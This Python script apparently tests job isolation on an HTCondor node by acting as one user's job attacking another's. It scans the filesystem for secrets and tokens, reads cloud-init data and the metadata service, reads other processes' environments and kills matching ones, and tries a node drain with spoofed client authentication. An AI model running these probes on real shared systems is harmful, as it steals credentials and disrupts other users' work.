"""A job of bob that takes what it can from a job of alice on the same node. Prints one line for each thing it got."""

import glob
import os
import pwd
import re
import signal
import stat
import subprocess
import urllib.request

# Alice's secrets begin with this. Not in one piece, or this file would hold it.
MARK = b"ALICE" + b"-SECRET"
TOKEN = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{10,}")
FOLDERS = ["/dev/shm", "/etc", "/home", "/opt", "/root", "/run", "/srv", "/tmp", "/usr/local", "/var"]
ME = os.getuid()
HERE = os.getcwd()


def got(what):
    print("got:", what, flush=True)


def content(path):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return b""
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def files():
    for folder in FOLDERS:
        for where, folders, names in os.walk(folder):
            folders[:] = [name for name in folders if os.path.join(where, name) != HERE]
            for path in (os.path.join(where, name) for name in names):
                text = content(path)
                if MARK in text:
                    got(f"a secret of alice in {path}")
                if TOKEN.search(text):
                    got(f"a token in {path}")


def folders():
    for folder in glob.glob("/var/lib/condor/execute/dir_*"):
        if folder != HERE and os.access(folder, os.R_OK | os.W_OK | os.X_OK):
            got(f"the sandbox {folder}")
    for folder in ["/etc/condor/tokens.d", "/etc/condor/passwords.d", "/var/log/condor"]:
        try:
            if os.listdir(folder):
                got(f"the list of {folder}")
        except OSError:
            pass
    home = pwd.getpwuid(ME).pw_dir
    if os.access(home, os.W_OK):
        got(f"a home that the next job has too: {home}")


def cloud_init():
    for path in ["user-data.txt", "user-data.txt.i", "cloud-config.txt", "vendor-data.txt"]:
        if content(f"/var/lib/cloud/instance/{path}"):
            got(f"user data in {path}")
    if content("/run/cloud-init/instance-data-sensitive.json"):
        got("instance-data-sensitive.json")
    try:
        urllib.request.urlopen("http://169.254.169.254/openstack/latest/user_data", timeout=5)
        got("an answer of the metadata service")
    except OSError:
        pass


def processes():
    for process in glob.glob("/proc/[0-9]*"):
        try:
            if os.stat(process).st_uid == 0 or int(process[6:]) in (os.getpid(), os.getppid()):
                continue
        except OSError:
            continue
        victim = False
        for name in ["cmdline", "environ"]:
            if MARK in content(f"{process}/{name}"):
                victim = True
                got(f"{name} of a process of alice")
        try:
            if victim:
                os.kill(int(process[6:]), signal.SIGKILL)
                got("the right to kill a process of alice")
        except OSError:
            pass


def htcondor():
    # As a client that means no good: the configuration of the node does not bind it.
    own = {**os.environ, "_CONDOR_SEC_CLIENT_AUTHENTICATION_METHODS": "FS,IDTOKENS,CLAIMTOBE"}
    node = os.uname().nodename
    for command in [["condor_who"], ["condor_drain", f"slot1@{node}"]]:
        try:
            done = subprocess.run(command, env=own, capture_output=True, timeout=20)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if command[0] == "condor_who" and b"alice" in done.stdout:
            got("alice's job by condor_who")
        if command[0] == "condor_drain" and done.returncode == 0:
            got("a drain of the node")


print("user:", pwd.getpwuid(ME).pw_name)
for attack in [cloud_init, folders, files, htcondor, processes]:
    attack()
print("done")
